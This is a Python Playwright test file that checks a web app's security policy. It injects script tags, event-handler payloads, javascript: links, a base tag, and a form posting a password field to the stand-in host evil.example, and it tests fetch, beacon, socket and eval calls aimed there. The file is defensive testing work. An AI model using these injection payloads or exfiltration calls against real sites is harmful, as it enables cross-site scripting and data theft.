"""The policy by its effects: what is injected does nothing, what is ours is never hindered.

Hostile parts are put into the app's real answers, with their headers as they are; the same answer without its
headers shows that each of them would have worked.
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.camera_page import CAMERA_ALLOWED, camera_browser
from tests.browser.conftest import PHONE, TIMEOUT_MS
from tests.browser.page_driver import close_context
from tests.browser.page_polling import wait_until
from tests.browser.scanner_driver import ANOTHER_PAGE, BACK, ScannerDriver, open_scanner
from tests.support.demo_site import PASSWORD, running_site
from tests.support.drawing_faults import View
from tests.support.videos import SMALL, empty_room, placed, write
from validator.demo.deck import BY_SLUG

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, BrowserContext, Page, Route, StorageState

    from tests.support.demo_site import Site

ANNA = BY_SLUG["anna-active"].escn
EVIL = "https://evil.example"
WATCH = """document.addEventListener("securitypolicyviolation", (event) => {
  (window.violations ??= []).push(event.effectiveDirective);
  window.reportViolation?.(`${event.effectiveDirective} ${event.blockedURI} on ${location.pathname}`);
});"""
# The page's content, read in one call: these pages redirect to the sign-in by themselves.
TOLD_AFTERWARDS = f"""() => {{
  const shows = (what) => document.querySelector(what)?.textContent.trim();
  if (document.title.includes("Changed results")) return "the page";
  if (shows("[data-testid=verdict]") || document.body.innerText.includes("{ANNA[-4:]}")) return "the card";
  const isOver = location.pathname === "/login" && document.readyState === "complete";
  return isOver && (shows("[data-account-name]") ? "the name" : "the sign-in");
}}"""
# Each would leave its name in window.hits.
HIT = "(window.hits ??= []).push"
INJECTED = f"""
<script>{HIT}("a script")</script>
<script src="data:text/javascript,{HIT}('a script in an address')"></script>
<script src="{EVIL}/a.js"></script>
<script type="module">{HIT}("a module")</script>
<img src="/nothing" alt="" onerror="{HIT}('a handler')">
<svg onload="{HIT}('a drawing')"></svg>
<details open ontoggle="{HIT}('a fold')"></details>
<a id="link" href="javascript:{HIT}('a link')">here</a>
<style>#link {{ position: fixed; top: 0; }}</style>
<p id="styled" style="position: fixed; top: 0; left: 0">styled</p>
<link rel="stylesheet" href="{EVIL}/a.css">
<img src="{EVIL}/a.png" alt="">
<iframe src="{EVIL}/frame"></iframe>
<iframe srcdoc="<script>(parent.hits ??= []).push('a frame')</script>"></iframe>
<object data="{EVIL}/object"></object>
<embed src="{EVIL}/embed">
<video src="{EVIL}/video"></video>
<base href="{EVIL}/">
<form id="form" action="{EVIL}/form" method="post"><input name="password" value="x"></form>
"""
SCRIPTS = {"a script", "a script in an address", "a module", "a handler", "a drawing", "a fold", "a frame"}
# What a faulty script of the app could do; each gives the name of the error that refused it.
ASTRAY = {
    "innerHTML": "document.querySelector('main').innerHTML = '<b>x</b>'",
    "outerHTML": "document.querySelector('main').outerHTML = '<b>x</b>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.write": "document.write('<b>x</b>')",
    "a fragment": "document.createRange().createContextualFragment('<b>x</b>')",
    "a parser": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "srcdoc": "document.createElement('iframe').srcdoc = 'x'",
    "a script's text": "document.createElement('script').text = 'x'",
    "a script's address": f"document.createElement('script').src = '{EVIL}/a.js'",
    "eval": "eval('1')",
    "a function": "new Function('return 1')",
    "a timer": "setTimeout('1')",
    "a worker": "new Worker('/static/x.js')",
    "a policy": "trustedTypes.createPolicy('other', {})",
    "our policy again": "trustedTypes.createPolicy('esc', {})",
}
ELSEWHERE = {
    "fetch": f"fetch('{EVIL}/fetch', {{ mode: 'no-cors' }})",
    "a beacon": f"new Promise((_, no) => {{ navigator.sendBeacon('{EVIL}/beacon'); no(new Error()); }})",
    "events": f"opens(new EventSource('{EVIL}/e'))",
    "a socket": "opens(new WebSocket('wss://evil.example/s'))",
    "an import": f"import('{EVIL}/a.js')",
    "a service worker": f"navigator.serviceWorker.register('{EVIL}/sw.js')",
}
OPENS = "const opens = (line) => new Promise((yes, no) => { line.onopen = yes; line.onerror = no; })"
# Done by a timer: what is evaluated from outside may eval.
REFUSAL = """(deed) => new Promise((report) => setTimeout(() => {
  try { deed(); report("did it"); } catch (error) { report(error.name); }
}))"""


@contextmanager
def browsing(browser: Browser, site: Site, state: StorageState | None = None) -> Iterator[Page]:
    """A page whose requests for the evil site are answered there, if they ever come: see `reached`."""
    context = browser.new_context(base_url=site.address, viewport=PHONE, storage_state=state)
    context.set_default_timeout(TIMEOUT_MS)
    page = context.new_page()
    page.add_init_script(WATCH)
    yield page
    close_context(context)


def reached(page: Page) -> list[str]:
    """Record the requests to the evil site."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url.removeprefix(EVIL))
        route.fulfill(status=200, body="", headers={"Access-Control-Allow-Origin": "*"})

    page.context.route(f"{EVIL}/**", answer)
    return asked


def inject(page: Page, *, with_headers: bool) -> None:
    """Open the guide with the hostile parts in it."""

    def spoil(route: Route) -> None:
        answer = route.fetch()
        headers = {name: value for name, value in answer.headers.items() if name != "content-encoding"}
        if not with_headers:
            headers = {"content-type": "text/html"}
        html = answer.text()
        assert "</main>" in html
        route.fulfill(status=200, headers=headers, body=html.replace("</main>", f"{INJECTED}</main>"))

    page.route("**/guide", spoil)
    page.goto("/guide", wait_until="load")


def hits(page: Page) -> set[str]:
    return set(page.evaluate("() => window.hits ?? []"))


def fixed(page: Page, name: str) -> bool:
    return bool(
        page.evaluate(f"() => getComputedStyle(document.getElementById('{name}')).position === 'fixed'")
    )


def test_what_is_injected_does_nothing(chromium: Browser, site: Site, signed_in: StorageState) -> None:
    """Scripts, handlers, frames, styles, links and forms in our own page: none acts, none goes elsewhere."""
    with browsing(chromium, site, signed_in) as page:
        asked = reached(page)
        inject(page, with_headers=True)
        wait_until(page, "() => (window.violations ?? []).length >= 12")
        page.evaluate("() => document.getElementById('link').click()")
        page.evaluate("() => document.getElementById('form').submit()")
        wait_until(page, "() => window.violations.includes('form-action')")

        assert hits(page) == set()
        assert not fixed(page, "styled")
        assert not fixed(page, "link")
        assert page.evaluate("() => document.baseURI").startswith(site.address)
        assert page.url == f"{site.address}/guide"
        assert asked == []


def test_without_the_policy_it_would_have_acted(
    chromium: Browser, site: Site, signed_in: StorageState
) -> None:
    """The traps are real: the same page without its headers falls into every one."""
    with browsing(chromium, site, signed_in) as page:
        asked = reached(page)
        inject(page, with_headers=False)
        wait_until(page, f"() => (window.hits ?? []).length >= {len(SCRIPTS)}")
        page.evaluate("() => document.getElementById('link').click()")
        wait_until(page, "() => window.hits.includes('a link')")

        assert hits(page) == SCRIPTS | {"a link"}
        assert fixed(page, "styled")
        assert fixed(page, "link")
        assert page.evaluate("() => document.baseURI") == f"{EVIL}/"
        assert {"/a.js", "/a.css", "/a.png", "/frame", "/object", "/embed", "/video"} <= set(asked)
        page.evaluate("() => document.getElementById('form').submit()")
        page.wait_for_url(f"{EVIL}/form")


def test_a_script_of_ours_that_went_astray_gets_nowhere(
    chromium: Browser, site: Site, signed_in: StorageState
) -> None:
    """Every way to turn text into markup or code throws, and no connection leads to another site."""
    with browsing(chromium, site, signed_in) as page:
        asked = reached(page)
        page.goto("/guide")
        wait_until(page, "() => navigator.serviceWorker.controller !== null")
        for name, deed in ASTRAY.items():
            ended = page.evaluate(f"() => ({REFUSAL})(() => {{ {deed}; }})")
            assert ended in {"TypeError", "EvalError"}, f"{name}: {ended}"
        for name, deed in ELSEWHERE.items():
            ended = page.evaluate(
                f"() => {{ {OPENS}; return ({deed}).then(() => 'did it', () => 'refused'); }}"
            )
            assert ended == "refused", name

        assert asked == []
        assert page.evaluate("() => crossOriginIsolated") is False, "we share no memory between threads"


def test_no_other_site_can_frame_us_or_use_our_files(
    chromium: Browser, site: Site, signed_in: StorageState
) -> None:
    """A page elsewhere gets neither our pages into a frame, nor our pictures, nor a hold on our window."""
    html = f"""<!doctype html><iframe src="{site.address}/login"></iframe>
      <img id="picture" src="{site.address}/demo/cards/anna-active.png" alt="">"""
    with browsing(chromium, site, signed_in) as page:
        page.context.route(
            "http://other.example/**", lambda route: route.fulfill(body=html, content_type="text/html")
        )
        page.goto("http://other.example/", wait_until="load")
        (frame,) = [each for each in page.frames if each.parent_frame]

        assert frame.locator("input").count() == 0
        assert page.evaluate("() => document.getElementById('picture').naturalWidth") == 0
        with page.context.expect_page() as opened:
            page.evaluate(f"() => {{ window.held = window.open('{site.address}/login'); }}")
        opened.value.wait_for_load_state()
        wait_until(page, "() => window.held.closed")
        assert opened.value.evaluate("() => window.opener") is None


CAMERA = """(kinds) => navigator.mediaDevices.getUserMedia(kinds).then((stream) => {
  stream.getTracks().forEach((track) => track.stop());
  return "given";
}, (error) => error.name)"""


@pytest.fixture(name="films", scope="module")
def _films(chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """A browser that allows every camera, and before it Anna's card."""
    pictures = [placed(f"https://esc.gg/{ANNA}", View(), (640, 360), SMALL, 3)] * 60 + [empty_room(3)] * 15
    with camera_browser(chromium, write(tmp_path_factory.mktemp("film") / "gate.mjpeg", pictures)) as browser:
        yield browser


def test_only_the_scanning_pages_get_the_camera(films: Browser, site: Site, signed_in: StorageState) -> None:
    """Although this browser allows everything: elsewhere no camera, and nowhere a microphone or a place."""
    with browsing(films, site, signed_in) as page:
        for path, wanted in (("/", "given"), ("/lookup", "NotAllowedError"), ("/guide", "NotAllowedError")):
            page.goto(path)
            assert page.evaluate(CAMERA, {"video": True}) == wanted, path
            assert page.evaluate(CAMERA, {"audio": True}) == "NotAllowedError", path
            place = page.evaluate(
                "() => navigator.permissions.query({ name: 'geolocation' }).then((p) => p.state)"
            )
            assert place == "denied", path


def test_the_whole_journey_breaks_no_rule(films: Browser, site: Site) -> None:
    """Mia signs in, scans, sends a photo, types, opens every linked page, signs out, locks a tablet."""
    broken: list[str] = []
    with open_scanner(films, site, **CAMERA_ALLOWED) as at:
        at.page.expose_function("reportViolation", lambda violation: broken.append(str(violation)))
        at.page.add_init_script(WATCH)
        at.sign_in_as("manager").install()
        at.shows("valid", "active", "live")
        at.photograph("kira-expired")
        at.type_number(ANNA)
        at.verdict.wait_for()
        assert len(everywhere(at)) >= 5
        at.page.goto("/")
        at.page.locator("[data-sign-out] button").click()
        at.page.wait_for_url("**/login*")
        at.sign_in_as("staff")
        at.page.goto("/kiosk")
        wait_until(at.page, "() => document.querySelector('[data-kiosk]').dataset.mode === 'setup'")
        at.page.get_by_label("Your password").fill(PASSWORD)
        at.page.get_by_role("button", name="Lock this tablet").click()
        at.verdict.wait_for()

    assert broken == []


def everywhere(at: ScannerDriver) -> set[str]:
    """Open every page that links lead to, and the pages that those link to."""
    links = "() => [...document.querySelectorAll('a[href^=\"/\"]')].map((a) => new URL(a.href).pathname)"
    seen: set[str] = set()
    waiting = ["/"]
    while waiting:
        path = waiting.pop()
        if path in seen or path.endswith((".png", ".svg")):
            continue
        seen.add(path)
        answer = at.page.goto(path)
        assert answer
        assert answer.ok, path
        waiting += at.page.evaluate(links)
    return seen


def cookies(context: BrowserContext) -> list[Any]:
    return list(context.cookies())


def test_the_cookie_is_as_closed_as_cookies_can_be(
    chromium: Browser, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Read back from the browser: for this host alone, over TLS alone, unseen by scripts and other sites."""
    with (
        running_site(tmp_path_factory.mktemp("tls"), secure_cookies="true") as site,
        browsing(chromium, site) as page,
    ):
        page.goto("/login")
        page.get_by_label("User name").fill("staff")
        page.get_by_label("Password").fill("lindenburg on the lake")
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url(f"{site.address}/")
        found = cookies(page.context)

        # The session cookie, and the device cookie, which is sent to the sign-in only.
        assert {cookie["name"]: cookie["path"] for cookie in found} == {
            "__Host-escv": "/",
            "__Secure-escv-known": "/login",
        }
        for cookie in found:
            assert (cookie["secure"], cookie["httpOnly"]) == (True, True)
            assert cookie["sameSite"] in {"Lax", "Strict"}
            assert not cookie["domain"].startswith(".")
        assert page.evaluate("() => document.cookie") == ""


def test_going_back_after_signing_out_shows_nothing(chromium: Browser, site: Site) -> None:
    """The next person at this device comes to the sign-in each time, and sees no name and no number."""
    with open_scanner(chromium, site) as at:
        at.sign_in_as("manager").install()
        at.type_number(ANNA)
        at.page.goto("/manage/late-answers")
        assert at.page.locator("[data-account-name]").inner_text() == "manager"
        at.page.locator("[data-sign-out] button").click()
        at.page.wait_for_url("**/login*")
        for _ in range(3):
            at.page.evaluate(BACK)
            assert at.until(f"() => ({ANOTHER_PAGE})() && ({TOLD_AFTERWARDS})()") == "the sign-in"
